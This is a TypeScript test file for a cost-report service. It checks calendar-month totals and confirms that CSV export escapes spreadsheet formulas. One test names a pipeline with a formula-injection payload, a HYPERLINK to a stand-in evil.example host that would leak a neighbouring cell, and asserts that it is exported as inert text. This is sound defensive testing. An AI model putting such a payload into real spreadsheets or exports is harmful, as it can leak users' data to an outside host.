import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { CostReportService } from '../../src/services/cost-reports.js';
import { createOrganization } from '../../src/services/organizations.js';
import { createTestDatabase, type TestDatabase } from '../support/db.js';
import { insertPipeline, insertRun } from '../support/spend.js';

describe('monthly cost report', () => {
  let db: TestDatabase;
  before(async () => {
    db = await createTestDatabase();
  });
  after(() => db.drop());

  /** One reconciled bill line of a day, allocated whole to `runId`. */
  async function billedTo(orgId: string, runId: string, day: string, amount: string) {
    const hash = randomUUID();
    await db.sql`select cost_records_ensure_partitions(${day}, ${day})`;
    await db.sql`insert into cost_records (org_id, provider, charge_period_start, charge_period_end, billed_cost, currency, tags, source, row_hash)
      values (${orgId}, 'azure', ${day}::timestamptz, ${day}::timestamptz + interval '1 day', ${amount}, 'USD', '{}', 'file', ${hash})`;
    await db.sql`insert into allocations (org_id, reconciliation_id, cost_row_hash, charge_period_start, kind, method, run_id, amount, currency)
      values (${orgId}, ${randomUUID()}, ${hash}, ${day}::timestamptz, 'TASK', 'RATE', ${runId}, ${amount}, 'USD')`;
  }

  test('the previous month is the calendar month before, whole; a name a spreadsheet would run is written as text', async () => {
    const { organization } = await createOrganization(db.db, { name: 'Reports', slug: 'reports' });
    const org = organization.id;
    const [project] = await db.sql<{ id: string }[]>`insert into projects (org_id, code, name) values (${org}, 'P-1', 'P-1') returning id`;
    const pipelineId = await insertPipeline(db.db, org, '=HYPERLINK("http://evil.example/?"&A2,"open")');
    const march = await insertRun(db.db, org, { projectId: project.id, pipelineId, status: 'SUCCEEDED', startedAt: new Date('2025-03-01T01:00:00Z'), completedAt: new Date('2025-03-01T02:00:00Z') });
    const april = await insertRun(db.db, org, { projectId: project.id, pipelineId, status: 'SUCCEEDED', startedAt: new Date('2025-04-10T01:00:00Z'), completedAt: new Date('2025-04-10T02:00:00Z') });
    // March 1: outside the 30 days before April 1, inside March
    await billedTo(org, march, '2025-03-01', '10');
    await billedTo(org, march, '2025-03-20', '2.5');
    await billedTo(org, april, '2025-04-10', '5');

    const report = await new CostReportService(db.db, org, 100).generate('P-1', '2025-04');
    assert.match(report.html, /USD 5\.00 \(previous month 12\.50\)/);
    const rows = parse(report.csv, { columns: true }) as Record<string, string>[];
    assert.deepEqual(rows.map((r) => [r.run, r.pipeline, r.actual]), [[april, `'=HYPERLINK("http://evil.example/?"&A2,"open")`, '5']]);
  });
});
